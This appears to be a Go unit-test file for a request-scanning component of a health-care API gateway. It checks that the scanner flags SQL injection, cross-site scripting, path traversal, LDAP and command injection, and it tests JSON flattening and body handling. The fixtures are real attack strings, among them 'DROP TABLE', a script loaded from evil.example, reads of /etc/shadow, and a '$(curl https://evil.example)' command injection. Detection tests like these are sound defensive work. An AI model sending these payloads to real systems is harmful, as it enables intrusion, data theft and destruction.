package threat

import (
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	sserr "github.com/mindhub-health/gateway-core/pkg/errors"
)

// ---------------------------------------------------------------------------
// Scanner
// ---------------------------------------------------------------------------

func TestScan_CleanValues(t *testing.T) {
	t.Parallel()
	s := NewDefaultScanner()

	got := s.Scan([]string{
		"jane.doe@example.org",
		"appointment notes for 2026-03-01",
		"PHQ-9 score 14",
		"",
	})
	assert.Empty(t, got, "ordinary clinical text must not match any signature")
}

func TestScan_SQLInjection(t *testing.T) {
	t.Parallel()
	s := NewDefaultScanner()
	payloads := []string{
		"1 UNION SELECT username, password FROM users",
		"' OR '1'='1",
		"anything; DROP TABLE patients",
		"id=5 AND 1=1",
		"pg_sleep(10)",
	}
	for _, p := range payloads {
		assert.Equal(t, []Category{CategorySQLInjection}, s.Scan([]string{p}),
			"payload %q", p)
	}
}

func TestScan_XSS(t *testing.T) {
	t.Parallel()
	s := NewDefaultScanner()
	payloads := []string{
		`<script>alert(1)</script>`,
		`<SCRIPT src="https://evil.example/x.js">`,
		`javascript:alert(document.cookie)`,
		`<img src=x onerror=alert(1)>`,
		`<iframe src="https://evil.example">`,
	}
	for _, p := range payloads {
		got := s.Scan([]string{p})
		assert.Contains(t, got, CategoryXSS, "payload %q", p)
	}
}

func TestScan_PathTraversal(t *testing.T) {
	t.Parallel()
	s := NewDefaultScanner()
	payloads := []string{
		"../../etc/passwd",
		`..\..\windows\system32\config`,
		"%2e%2e%2fsecrets",
		"file:///etc/shadow",
	}
	for _, p := range payloads {
		got := s.Scan([]string{p})
		assert.Contains(t, got, CategoryPathTraversal, "payload %q", p)
	}
}

func TestScan_CommandInjection(t *testing.T) {
	t.Parallel()
	s := NewDefaultScanner()
	payloads := []string{
		"name; cat /etc/hosts",
		"x && rm -rf /tmp/x",
		"$(curl https://evil.example)",
		"`id`",
	}
	for _, p := range payloads {
		got := s.Scan([]string{p})
		assert.Contains(t, got, CategoryCommandInjection, "payload %q", p)
	}
}

func TestScan_MultipleCategoriesDeterministicOrder(t *testing.T) {
	t.Parallel()
	s := NewDefaultScanner()

	values := []string{
		"<script>alert(1)</script>",
		"' OR 1=1",
	}
	for range 20 {
		assert.Equal(t, []Category{CategorySQLInjection, CategoryXSS}, s.Scan(values),
			"category order must be stable across calls")
	}
}

func TestScan_EachValueScannedIndependently(t *testing.T) {
	t.Parallel()
	s := NewDefaultScanner()

	// Fragments split across values must not combine into a match.
	got := s.Scan([]string{"UNION", "SELECT password"})
	assert.Empty(t, got)
}

func TestNewScanner_RejectsInvalidPattern(t *testing.T) {
	t.Parallel()
	_, err := NewScanner(map[Category][]string{
		CategorySQLInjection: {`([unclosed`},
	})
	require.Error(t, err)
	assert.Equal(t, sserr.CodeInternalConfiguration, sserr.GetCode(err))
}

func TestNewScanner_CustomCategory(t *testing.T) {
	t.Parallel()
	sigs := DefaultSignatures()
	sigs[Category("ldap_injection")] = []string{`\)\(\|`}
	s, err := NewScanner(sigs)
	require.NoError(t, err)

	got := s.Scan([]string{"admin)(|(objectClass=*"})
	assert.Contains(t, got, Category("ldap_injection"))
}

// ---------------------------------------------------------------------------
// Flatten
// ---------------------------------------------------------------------------

func TestFlattenJSON_NestedEqualsFlat(t *testing.T) {
	t.Parallel()
	s := NewDefaultScanner()

	flat := []byte(`{"note": "<script>alert(1)</script>"}`)
	nested := []byte(`{"patient": {"records": [{"note": "<script>alert(1)</script>"}]}}`)

	flatLeaves, err := FlattenJSON(flat)
	require.NoError(t, err)
	nestedLeaves, err := FlattenJSON(nested)
	require.NoError(t, err)

	assert.Equal(t, s.Scan(flatLeaves), s.Scan(nestedLeaves),
		"nesting depth must not change the scan verdict")
}

func TestFlattenJSON_CollectsKeysAndStringLeaves(t *testing.T) {
	t.Parallel()
	leaves, err := FlattenJSON([]byte(`{"a": {"b": ["x", 1, true, null, "y"]}}`))
	require.NoError(t, err)

	assert.ElementsMatch(t, []string{"a", "b", "x", "y"}, leaves)
}

func TestFlattenJSON_EmptyBody(t *testing.T) {
	t.Parallel()
	leaves, err := FlattenJSON([]byte("  \n"))
	require.NoError(t, err)
	assert.Empty(t, leaves)
}

func TestFlattenJSON_InvalidJSONFailsClosed(t *testing.T) {
	t.Parallel()
	_, err := FlattenJSON([]byte(`{"broken":`))
	require.Error(t, err)
	assert.Equal(t, sserr.CodeValidationFormat, sserr.GetCode(err))
}

// ---------------------------------------------------------------------------
// RequestValues
// ---------------------------------------------------------------------------

func TestRequestValues_QueryAndPath(t *testing.T) {
	t.Parallel()
	r := httptest.NewRequest("GET", "/api/patients?q=smith&sort=asc", nil)

	values, err := RequestValues(r, 0)
	require.NoError(t, err)

	assert.Contains(t, values, "/api/patients")
	assert.Contains(t, values, "q")
	assert.Contains(t, values, "smith")
	assert.Contains(t, values, "sort")
	assert.Contains(t, values, "asc")
}

func TestRequestValues_JSONBodyLeaves(t *testing.T) {
	t.Parallel()
	body := `{"patient": {"note": "' OR '1'='1"}}`
	r := httptest.NewRequest("POST", "/api/records", strings.NewReader(body))
	r.Header.Set("Content-Type", "application/json")

	values, err := RequestValues(r, 0)
	require.NoError(t, err)
	assert.Contains(t, values, "' OR '1'='1")
}

func TestRequestValues_RestoresBody(t *testing.T) {
	t.Parallel()
	body := `{"note": "ok"}`
	r := httptest.NewRequest("POST", "/api/records", strings.NewReader(body))
	r.Header.Set("Content-Type", "application/json")

	_, err := RequestValues(r, 0)
	require.NoError(t, err)

	buf := make([]byte, len(body))
	n, _ := r.Body.Read(buf)
	assert.Equal(t, body, string(buf[:n]),
		"downstream handlers must see the original body")
}

func TestRequestValues_NonJSONBodySkipped(t *testing.T) {
	t.Parallel()
	r := httptest.NewRequest("POST", "/api/upload", strings.NewReader("%PDF-1.4 binary"))
	r.Header.Set("Content-Type", "application/pdf")

	values, err := RequestValues(r, 0)
	require.NoError(t, err)
	assert.NotContains(t, values, "%PDF-1.4 binary")
}

func TestRequestValues_OversizeBodyDenied(t *testing.T) {
	t.Parallel()
	big := `{"note": "` + strings.Repeat("a", 64) + `"}`
	r := httptest.NewRequest("POST", "/api/records", strings.NewReader(big))
	r.Header.Set("Content-Type", "application/json")

	_, err := RequestValues(r, 16)
	require.Error(t, err)
	assert.True(t, sserr.IsValidation(err))
}
